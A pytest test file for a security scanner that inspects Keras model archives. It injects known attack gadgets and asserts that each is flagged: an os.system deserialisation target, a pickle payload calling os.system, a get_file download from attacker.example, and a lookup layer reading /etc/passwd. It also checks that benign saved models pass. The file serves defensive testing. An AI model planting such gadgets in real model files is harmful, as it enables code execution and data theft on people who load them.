"""Keras, analysed as Keras loads it: every config in any text encoding, nested and wrapped
layers, the CVE gadgets, and a benign corpus that Keras itself saves at test time."""

from __future__ import annotations

import base64
import codecs
import io
import json
import os
import pickle
import subprocess
import sys
import warnings
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest

from benchmarks.corpus.keras_samples import edit_keras_config, h5_with_config, saved
from verifier.model import Decision
from verifier.pipeline import scan_target
from verifier.policy import default_policy_path, load_policy

os.environ.setdefault("KERAS_BACKEND", "torch")
# Keras and its torch backend warn about their own APIs while saving; the tests only save.
pytestmark = pytest.mark.filterwarnings(
    "ignore::DeprecationWarning", "ignore::UserWarning", "ignore::FutureWarning"
)


def _keras() -> Any:
    with warnings.catch_warnings():
        warnings.simplefilter("ignore")
        import keras

    return keras


def _scan(path: Path) -> tuple[Decision, list[tuple[str, str]]]:
    report = scan_target(
        str(path), policy=load_policy(default_policy_path()), recorder=None, workers=1
    )
    return report.verdict.decision, [(f.code, f.severity.value) for f in report.findings]


def _write(tmp_path: Path, name: str, data: bytes) -> Path:
    folder = tmp_path / "model"
    folder.mkdir(exist_ok=True)
    (folder / name).write_bytes(data)
    return folder


def _model() -> Any:
    keras = _keras()
    inputs = keras.Input((4,))
    x = keras.layers.Dense(3, activation="relu")(inputs)
    return keras.Model(inputs, keras.layers.Dense(2)(x))


def _first(config: Any, class_name: str) -> dict[str, Any]:
    """The first object of `class_name` anywhere in a config, depth first."""
    stack = [config]
    while stack:
        node = stack.pop()
        if isinstance(node, dict):
            if node.get("class_name") == class_name:
                return node
            stack.extend(reversed(list(node.values())))
        elif isinstance(node, list):
            stack.extend(reversed(node))
    raise LookupError(class_name)


OS_SYSTEM = {"module": "os", "class_name": "system", "config": {}, "registered_name": None}


def _reencode(archive: bytes, encoding: str) -> bytes:
    """The archive with config.json re-encoded (a BOM is written by the -sig/-bom variants)."""

    def edit(config: dict[str, Any]) -> Any:
        return config

    text = None

    def grab(config: dict[str, Any]) -> dict[str, Any]:
        nonlocal text
        text = json.dumps(config)
        return config

    edit_keras_config(archive, grab)
    assert text is not None
    return _replace_member(archive, "config.json", _encode(text, encoding))


def _encode(text: str, encoding: str) -> bytes:
    boms = {"utf-16-bom": codecs.BOM_UTF16_LE, "utf-32-bom": codecs.BOM_UTF32_LE}
    if encoding in boms:
        return boms[encoding] + text.encode(encoding.split("-bom")[0] + "-le")
    return text.encode(encoding)


def _replace_member(archive: bytes, name: str, data: bytes) -> bytes:
    import zipfile

    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(archive)) as source, zipfile.ZipFile(out, "w") as target:
        for info in source.infolist():
            target.writestr(info, data if info.filename == name else source.read(info.filename))
    return out.getvalue()


ENCODINGS = [
    "utf-8-sig",
    "utf-16-le",
    "utf-16-be",
    "utf-16-bom",
    "utf-32-le",
    "utf-32-be",
    "utf-32-bom",
]


@pytest.mark.parametrize("encoding", ENCODINGS)
def test_config_json_in_any_utf_encoding_is_read(tmp_path: Path, encoding: str) -> None:
    def edit(config: dict[str, Any]) -> dict[str, Any]:
        _first(config, "Dense")["config"]["kernel_initializer"] = OS_SYSTEM
        return config

    archive = edit_keras_config(saved(_model(), ".keras"), edit)
    archive = _reencode(archive, encoding)
    decision, found = _scan(_write(tmp_path, "model.keras", archive))
    assert decision is Decision.DENY
    assert ("KERAS-UNSAFE-MODULE", "critical") in found


def test_keras_itself_loads_a_utf16_config(tmp_path: Path) -> None:
    # The oracle: Keras reads the re-encoded archive, so the scanner has to read it too.
    path = tmp_path / "m.keras"
    path.write_bytes(_reencode(saved(_model(), ".keras"), "utf-16-bom"))
    script = (
        "import os, sys; os.environ['KERAS_BACKEND'] = 'torch'; import keras; "
        "m = keras.saving.load_model(sys.argv[1]); print(len(m.layers))"
    )
    done = subprocess.run(
        [sys.executable, "-c", script, str(path)],
        capture_output=True,
        text=True,
        timeout=300,
        check=True,
    )
    assert done.stdout.strip().endswith("3")
    assert _scan(path.parent)[0] is Decision.ALLOW


def test_config_json_that_is_not_json_is_reported(tmp_path: Path) -> None:
    archive = _replace_member(saved(_model(), ".keras"), "config.json", b"\xff\xfe{not json")
    decision, found = _scan(_write(tmp_path, "model.keras", archive))
    assert decision is Decision.DENY
    assert ("KERAS-CONFIG-INVALID", "high") in found


def _wrapped_model() -> Any:
    keras = _keras()
    inputs = keras.Input((5, 4))
    x = keras.layers.Bidirectional(keras.layers.LSTM(3, return_sequences=True))(inputs)
    x = keras.layers.TimeDistributed(keras.layers.Dense(2))(x)
    inner = keras.Sequential([keras.Input((5, 2)), keras.layers.Dense(2, name="deep")])
    x = inner(x)
    return keras.Model(inputs, keras.layers.GlobalAveragePooling1D()(x))


@pytest.mark.parametrize("target", ["deep", "LSTM", "TimeDistributed"])
def test_gadgets_in_nested_and_wrapped_layers(tmp_path: Path, target: str) -> None:
    def edit(config: dict[str, Any]) -> dict[str, Any]:
        if target == "deep":
            layer = next(
                node
                for node in _first(config, "Sequential")["config"]["layers"]
                if node["config"].get("name") == "deep"
            )
        else:
            layer = _first(config, target)
        if target == "TimeDistributed":
            layer["config"]["layer"]["config"]["kernel_initializer"] = OS_SYSTEM
        else:
            layer["config"]["kernel_initializer"] = OS_SYSTEM
        return config

    archive = edit_keras_config(saved(_wrapped_model(), ".keras"), edit)
    decision, found = _scan(_write(tmp_path, "model.keras", archive))
    assert (decision, ("KERAS-UNSAFE-MODULE", "critical") in found) == (Decision.DENY, True)


class _Payload:
    def __reduce__(self) -> tuple[Callable[..., Any], tuple[str]]:
        return (os.system, ("true",))


def test_torch_module_wrapper_is_critical_and_its_pickle_is_scanned(tmp_path: Path) -> None:
    import torch

    keras = _keras()
    inputs = keras.Input((4,))
    wrapper = keras.layers.TorchModuleWrapper(
        torch.nn.Linear(4, 2), name="torch_linear", output_shape=(None, 2)
    )
    model = keras.Model(inputs, wrapper(inputs))
    benign = saved(model, ".keras")
    decision, found = _scan(_write(tmp_path, "model.keras", benign))
    assert decision is Decision.DENY
    assert ("KERAS-TORCH-MODULE", "critical") in found

    def edit(config: dict[str, Any]) -> dict[str, Any]:
        node = _first(config, "TorchModuleWrapper")
        node["config"]["module"] = base64.b64encode(pickle.dumps(_Payload())).decode()
        return config

    hostile = edit_keras_config(benign, edit)
    found = _scan(_write(tmp_path, "model.keras", hostile))[1]
    assert ("PICKLE-DANGEROUS-GLOBAL", "critical") in found


def test_get_file_reports_its_url(tmp_path: Path) -> None:
    def edit(config: dict[str, Any]) -> dict[str, Any]:
        _first(config, "Dense")["config"]["bias_initializer"] = {
            "module": "keras.utils",
            "class_name": "function",
            "config": "get_file",
            "registered_name": "function",
            "origin": "https://attacker.example/x.h5",
        }
        return config

    archive = edit_keras_config(saved(_model(), ".keras"), edit)
    report = scan_target(
        str(_write(tmp_path, "model.keras", archive)),
        policy=load_policy(default_policy_path()),
        recorder=None,
        workers=1,
    )
    [finding] = [f for f in report.findings if f.code == "KERAS-DANGEROUS-FUNCTION"]
    assert "https://attacker.example/x.h5" in finding.message


def _lookup(vocabulary: object) -> dict[str, Any]:
    """A StringLookup layer as Keras 3 serialises it (it needs TensorFlow to be built here)."""
    return {
        "module": "keras.layers",
        "class_name": "StringLookup",
        "config": {
            "name": "lookup",
            "trainable": True,
            "dtype": {"module": "keras", "class_name": "DTypePolicy", "config": {"name": "int64"}},
            "max_tokens": None,
            "num_oov_indices": 1,
            "mask_token": None,
            "oov_token": "[UNK]",
            "vocabulary": vocabulary,
            "vocabulary_dtype": "string",
            "idf_weights": None,
            "invert": False,
            "output_mode": "int",
            "sparse": False,
            "pad_to_max_tokens": False,
            "encoding": "utf-8",
        },
        "registered_name": None,
        "name": "lookup",
        "inbound_nodes": [],
    }


@pytest.mark.parametrize(
    ("vocabulary", "flagged"),
    [
        (["a", "b"], False),
        (None, False),
        ("/etc/passwd", True),
        ("gs://bucket/vocab.txt", True),
    ],
)
def test_lookup_layer_reading_a_file_named_in_its_config(
    tmp_path: Path, vocabulary: object, flagged: bool
) -> None:
    def edit(config: dict[str, Any]) -> dict[str, Any]:
        config["config"]["layers"].append(_lookup(vocabulary))
        return config

    archive = edit_keras_config(saved(_model(), ".keras"), edit)
    found = _scan(_write(tmp_path, "model.keras", archive))[1]
    assert (("KERAS-FILE-REFERENCE", "high") in found) is flagged


KERAS2_TRAINING_CONFIG = {
    "loss": "mse",
    "metrics": ["mae"],
    "optimizer_config": {
        "class_name": "Custom>Adam",
        "config": {"name": "Adam", "learning_rate": 0.001, "is_legacy_optimizer": False},
    },
}


def test_keras2_h5_with_its_optimizer_is_not_a_custom_object(tmp_path: Path) -> None:
    import h5py

    data = h5_with_config({"class_name": "Sequential", "config": {"layers": []}})
    path = tmp_path / "model" / "model.h5"
    path.parent.mkdir()
    path.write_bytes(data)
    with h5py.File(path, "a") as handle:
        handle.attrs["training_config"] = json.dumps(KERAS2_TRAINING_CONFIG)
    assert _scan(path.parent) == (Decision.ALLOW, [])
    with h5py.File(path, "a") as handle:
        config = dict(KERAS2_TRAINING_CONFIG)
        config["optimizer_config"] = {"class_name": "Custom>Backdoor", "config": {}}
        handle.attrs["training_config"] = json.dumps(config)
    assert _scan(path.parent)[1] == [("KERAS-CUSTOM-OBJECT", "high")]


def _benign_models() -> dict[str, Any]:
    keras = _keras()
    models: dict[str, Any] = {"dense": _model(), "wrapped": _wrapped_model()}
    models["sequential-conv"] = keras.Sequential(
        [
            keras.Input((8, 8, 1)),
            keras.layers.Conv2D(2, 3, padding="same", kernel_regularizer=keras.regularizers.L2()),
            keras.layers.BatchNormalization(),
            keras.layers.MaxPooling2D(),
            keras.layers.Flatten(),
            keras.layers.Dropout(0.2),
            keras.layers.Dense(3, activation="softmax"),
        ]
    )
    tokens = keras.Input((6,), dtype="int32")
    x = keras.layers.Embedding(20, 4)(tokens)
    x = keras.layers.MultiHeadAttention(num_heads=2, key_dim=2)(x, x)
    x = keras.layers.LayerNormalization()(x)
    x = keras.layers.GRU(3)(x)
    models["attention-gru"] = keras.Model(tokens, keras.layers.Dense(1)(x))
    return models


def _compiled(model: Any, optimizer: Any) -> Any:
    keras = _keras()
    model.compile(
        optimizer=optimizer,
        loss=keras.losses.MeanSquaredError(),
        metrics=[keras.metrics.MeanAbsoluteError(), "mae"],
    )
    return model


def test_benign_keras_corpus_saved_by_keras_has_no_denial(tmp_path: Path) -> None:
    keras = _keras()
    schedule = keras.optimizers.schedules.ExponentialDecay(0.01, 10, 0.9)
    optimizers = [
        keras.optimizers.Adam(),
        keras.optimizers.AdamW(schedule),
        keras.optimizers.SGD(momentum=0.9),
        keras.optimizers.RMSprop(),
    ]
    written = 0
    for i, (name, model) in enumerate(sorted(_benign_models().items())):
        model = _compiled(model, optimizers[i % len(optimizers)])
        for suffix in (".keras", ".h5", ".weights.h5"):
            folder = tmp_path / f"{name}{suffix}"
            folder.mkdir()
            target = folder / f"model{suffix}"
            with warnings.catch_warnings():
                warnings.simplefilter("ignore")
                if suffix == ".weights.h5":
                    model.save_weights(str(target))
                else:
                    model.save(str(target))
            decision, found = _scan(folder)
            assert decision is Decision.ALLOW, (name, suffix, found)
            assert all(severity in ("info", "low") for _, severity in found), (name, found)
            written += 1
    assert written >= 12
